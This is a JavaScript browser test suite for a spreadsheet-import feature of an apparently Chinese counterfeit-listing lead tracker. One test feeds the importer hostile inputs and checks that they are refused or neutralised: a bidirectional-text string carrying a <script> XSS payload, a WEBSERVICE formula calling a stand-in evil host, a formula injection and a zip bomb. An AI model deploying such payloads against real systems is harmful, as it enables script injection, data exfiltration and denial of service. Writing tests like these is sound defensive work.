// A table of listings dropped on 录入线索: what becomes of each row, hostile tables, the template.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import readSheet from "read-excel-file/node";
import { deskWith, enter, leadsAre, open, saved, shopOf } from "./harness.mjs";
import { workbook, workbookOf } from "./workbook.mjs";

const heads = ["标题", "网址", "价格", "店铺", "平台", "销量"];
const fake = ["耐克 高仿 运动鞋 断码 表一", "http://shop.example/i/1?spm=x", "59", "寿光市表格经营部", "", "120"];
const twin = ["耐克 运动鞋 表二", "http://shop.example/i/2", "599", "寿光市另一经营部", "", "3"];
const broken = ["", "不是网址", "很便宜", "某店", "", ""];
let deployment, chrome, admin, page, close;
before(async () => {
  const offers = [{ id: "1001", title: "阿迪达斯 A货 外套 1:1", seller: "寿光市第1经营部" }];
  ({ deployment, chrome, admin, page, close } = await deskWith({ sources: { street: shopOf(offers) } }, leadsAre(1), { acceptDownloads: true }));
});
after(() => close?.());

/** Lets a file fall on the form, as from a folder of the desktop. */
async function dropFile(name, bytes) {
  const transfer = await page.evaluateHandle(
    ([name, text]) => {
      const data = new DataTransfer();
      data.items.add(new File([Uint8Array.from(atob(text), (c) => c.charCodeAt(0))], name));
      return data;
    },
    [name, Buffer.from(bytes).toString("base64")],
  );
  await page.locator("form.card").dispatchEvent("drop", { dataTransfer: transfer });
  await page.locator(".file", { hasText: name }).waitFor();
}
async function goToAdd() {
  await page.goto(`${deployment.origin}/#/profile`);
  await page.goto(`${deployment.origin}/#/add`);
  await page.locator("form.card").waitFor();
}
const send = () => page.getByRole("button", { name: "保存", exact: true }).click();
const report = () => page.locator(".listing-report");
async function figures() {
  await report().waitFor();
  const cells = await report().locator("[data-figure]").evaluateAll((all) => all.map((e) => [e.dataset.figure, Number(e.innerText)]));
  return Object.fromEntries(cells);
}
const inCounty = async () => (await admin.good("GET", `/leads?county=${encodeURIComponent("寿光市")}`)).items;

test("ours: three rows of a table: one lead, one innocent twin, one bad row by row and column", async () => {
  await goToAdd();
  await dropFile("市场巡查.xlsx", workbook([heads, fake, twin, broken]));
  await send();
  assert.deepEqual(await figures(), { rows: 3, listings: 2, new_leads: 1, known_leads: 0, clear: 1, bad: 1 });
  const text = await report().innerText();
  assert.match(text, /4\s+A 列（标题）\s+缺少标题\s+照网页填写商品标题/);
  assert.match(text, /B 列（网址）\s+“不是网址”不是网址\s+从浏览器地址栏复制/);
  assert.match(text, /C 列（价格）\s+“很便宜”不是价格/);
  await report().getByRole("link", { name: fake[0] }).waitFor();
  if (process.env.CLUEHOUND_SHOTS) await page.screenshot({ path: `${process.env.CLUEHOUND_SHOTS}/listings.png`, fullPage: true });
  await report().getByRole("link", { name: fake[0] }).click();
  await page.locator("h1", { hasText: "表一" }).waitFor();
  await page.goto(`${deployment.origin}/#/ledger`);
  await page.locator("tr", { hasText: fake[0] }).waitFor();
  assert.equal(await page.locator("tr", { hasText: twin[0] }).count(), 0, "the bare brand is no lead");
  const lead = (await inCounty()).find((l) => l.title === fake[0]);
  assert.match(lead.url, /shop\.example\/i\/1/);
  const audit = (await admin.good("GET", "/audit?limit=1000")).items;
  assert.ok(audit.some((e) => e.action === "clue.add") && audit.some((e) => e.action === "lead.add"));
  assert.deepEqual(page.wrongs, []);
});

test("ours: the same rows again, and as CSV, make no second lead", async () => {
  for (const [name, bytes] of [
    ["市场巡查.xlsx", workbook([heads, fake, twin, broken])],
    ["again.csv", "Title,URL,Price\n" + [fake, twin].map((r) => [r[0], r[1].replace("?spm=x", ""), r[2]].join(",")).join("\n")], // the address without its tracking parameter
  ]) {
    await goToAdd();
    await dropFile(name, bytes);
    await send();
    const found = await figures();
    assert.equal(found.new_leads, 0, name);
    assert.equal(found.known_leads, 1, name);
  }
  assert.equal((await admin.good("GET", "/leads/count")).leads, 2);
});

test("ours: hostile tables are refused or harmless", async () => {
  const bidi = "\u202e耐克 高仿 运动鞋 断码 反转\u2066<script>window.pwned=1</script>";
  await goToAdd();
  await dropFile("反转.xlsx", workbook([heads, [bidi, "http://shop.example/i/9", { formula: 'WEBSERVICE("http://evil.example")' }, "=1+1", "", ""], [{ formula: "A1" }, "http://shop.example/i/10"]]));
  await send();
  const found = await figures();
  assert.equal(found.new_leads, 1);
  assert.equal(found.bad, 1, "a formula without a value is an empty cell");
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  for (const [name, bytes, why] of [
    ["bomb.xlsx", workbookOf(" ".repeat(80 << 20)), "解压后过大"],
    ["cell.xlsx", workbook([heads, ["x".repeat(100_000), "http://shop.example/i/11"]]), "超过 32767 字节"],
    ["rows.csv", "标题,网址\n" + "鞋,http://shop.example/\n".repeat(6000), "超过 5000 行"],
    ["heads.csv", "甲,乙\n1,2\n", "表中没有列 标题"],
    ["old.xls", Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1]), "另存为 .xlsx"],
  ]) {
    await goToAdd();
    await dropFile(name, bytes);
    await send();
    await page.locator(".el-message--error", { hasText: why }).first().waitFor();
    assert.equal(await report().count(), 0, name);
    assert.equal(await page.locator(".file").count(), 1, "it is still there to be taken away");
  }
  assert.deepEqual(page.wrongs, []);
  assert.equal((await admin.ask("POST", "/listings", { table: { name: "x" } })).status, 400);
  assert.equal((await admin.ask("POST", "/listings", { table: { name: "x", base64: "eA==" }, fields: { county: "火星" } })).status, 400);
});

test("ours: the template has the heads that are taken, and none is left out", async () => {
  await goToAdd();
  const file = await saved(page, () => page.getByRole("link", { name: "下载模板" }).click());
  assert.match(file.name, /模板\.xlsx$/);
  const sheets = await readSheet(file.bytes);
  const [row] = Array.isArray(sheets[0]?.data) ? sheets[0].data : sheets;
  for (const head of heads) assert.ok(row.includes(head), head);
  const answer = await admin.good("POST", "/listings", { table: { name: file.name, base64: file.bytes.toString("base64") } });
  assert.deepEqual([answer.rows, answer.unused.length, answer.problems.length], [0, 0, 0]);
});

test("ours: a county officer's leads of unknown place are the county's; a viewer may not bring any", async () => {
  await deployment.account(admin, "li", "officer", "寿光市");
  const viewer = await deployment.account(admin, "wang", "viewer");
  const bytes = workbook([heads, ["耐克 高仿 运动鞋 断码 无地", "http://shop.example/i/20", "59", "", "", ""]]).toString("base64");
  assert.equal((await viewer.ask("POST", "/listings", { table: { name: "a.xlsx", base64: bytes } })).status, 403);
  const officer = await open(chrome, deployment);
  const kept = page;
  page = officer;
  await enter(officer, deployment, "li");
  await officer.locator("nav").waitFor();
  await goToAdd();
  await dropFile("县局.xlsx", Buffer.from(bytes, "base64"));
  await send();
  assert.equal((await figures()).new_leads, 1);
  assert.ok((await inCounty()).some((l) => l.title.endsWith("无地")));
  assert.deepEqual(officer.wrongs, []);
  page = kept;
  await officer.context().close();
});
